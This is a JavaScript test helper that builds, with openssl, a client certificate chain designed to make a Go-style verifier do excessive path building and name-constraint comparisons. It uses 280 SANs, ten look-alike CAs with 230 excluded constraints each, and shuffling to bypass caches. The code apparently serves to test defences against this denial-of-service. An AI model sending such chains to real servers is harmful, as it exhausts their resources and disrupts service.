// The client chain of issue #27: an EC leaf with 280 DNS SANs plus 10 self-issued CAs that share
// one P-256 key and one name, each with 230 excluded DNS name constraints. Every certificate is
// under 3 KiB and every signature is a cheap P-256 one, but a Go-rules verifier tries path after
// path through the CAs (up to Go's limit of signature checks) and compares every SAN with every
// constraint on each. Nothing here is trusted by any server; the certificates are made per run
// with openssl in `dir` (well under a second).
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

export function constraintChain(dir, { count = 10, sans = 280, excluded = 230 } = {}) {
  const p = (f) => join(dir, `nc-attack-${f}`);
  const openssl = (...args) => execFileSync('openssl', args, { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
  const ec = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'];
  // Names that never match a constraint, so every comparison is made and none ends the check early.
  const constraints = Array.from({ length: excluded }, (_, i) => `DNS:e${i}.x`).join(',');
  writeFileSync(
    p('ca.cnf'),
    [
      '[req]',
      'distinguished_name=dn',
      '[dn]',
      '[ca]',
      'basicConstraints=critical,CA:TRUE',
      'keyUsage=critical,keyCertSign',
      `nameConstraints=critical,${constraints
        .split(',')
        .map((c) => `excluded;${c}`)
        .join(',')}`,
      '',
    ].join('\n'),
  );
  writeFileSync(p('leaf.ext'), `extendedKeyUsage=clientAuth\nsubjectAltName=${Array.from({ length: sans }, (_, i) => `DNS:s${i}.y`).join(',')}\n`);
  openssl('req', '-new', ...ec, '-keyout', p('ca.key'), '-out', p('ca.csr'), '-subj', '/CN=nc-attack-ca', '-config', p('ca.cnf'));
  const cas = [];
  for (let i = 1; i <= count; i++) {
    openssl('req', '-x509', '-key', p('ca.key'), '-subj', '/CN=nc-attack-ca', '-days', '2', '-set_serial', String(i), '-sha256', '-config', p('ca.cnf'), '-extensions', 'ca', '-out', p(`ca-${i}.pem`));
    cas.push(readFileSync(p(`ca-${i}.pem`), 'utf8'));
  }
  openssl('req', '-new', ...ec, '-keyout', p('leaf.key'), '-out', p('leaf.csr'), '-subj', '/CN=nc-attacker', '-config', p('ca.cnf'));
  openssl('x509', '-req', '-in', p('leaf.csr'), '-CA', p('ca-1.pem'), '-CAkey', p('ca.key'), '-set_serial', '100', '-days', '2', '-sha256', '-out', p('leaf.pem'), '-extfile', p('leaf.ext'));
  const leaf = readFileSync(p('leaf.pem'), 'utf8');
  return {
    key: readFileSync(p('leaf.key'), 'utf8'),
    leaf,
    cas,
    /** The leaf and the CAs in a fixed order. */
    cert: leaf + cas.join(''),
    /** The leaf and the CAs in a new order on nearly every call, so no verdict cache answers it. */
    shuffled: () => {
      const order = [...cas];
      for (let i = order.length - 1; i > 0; i--) {
        const j = Math.floor(Math.random() * (i + 1));
        [order[i], order[j]] = [order[j], order[i]];
      }
      return leaf + order.join('');
    },
  };
}
